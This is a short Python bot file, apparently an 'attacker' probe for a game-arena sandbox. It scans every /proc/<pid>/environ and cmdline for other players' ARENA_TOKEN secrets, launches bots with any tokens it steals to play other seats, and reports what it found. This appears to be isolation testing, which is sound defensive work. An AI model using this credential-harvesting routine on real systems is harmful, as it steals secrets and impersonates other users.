"""Attacker `sb_proc`: reads every /proc/<pid>/environ and cmdline it can for other seats'
tokens, joins with any it finds, then plays honestly. Reports one ``SB-REPORT`` JSON line."""

import json
import os
import threading
from pathlib import Path

from arena.sdk import Bot, run


def report(**found: object) -> None:
    print("SB-REPORT " + json.dumps(found), flush=True)


def tokens_in_proc() -> tuple[list[int], int, set[str]]:
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    readable = 0
    tokens: set[str] = set()
    for pid in pids:
        for name in ("environ", "cmdline"):
            try:
                data = Path(f"/proc/{pid}/{name}").read_bytes()
            except OSError:
                continue
            readable += 1
            for item in data.split(b"\0"):
                if item.startswith(b"ARENA_TOKEN="):
                    tokens.add(item.removeprefix(b"ARENA_TOKEN=").decode(errors="replace"))
    return pids, readable, tokens


class Attacker(Bot):
    def on_welcome(self, welcome: object) -> None:
        pids, readable, tokens = tokens_in_proc()
        stolen = sorted(tokens - {os.environ["ARENA_TOKEN"]})
        for token in stolen:  # play another seat too, had we found its token
            threading.Thread(target=run, args=(Bot(),), kwargs={"token": token}).start()
        report(pids=pids, readable=readable, stolen=stolen)


run(Attacker())
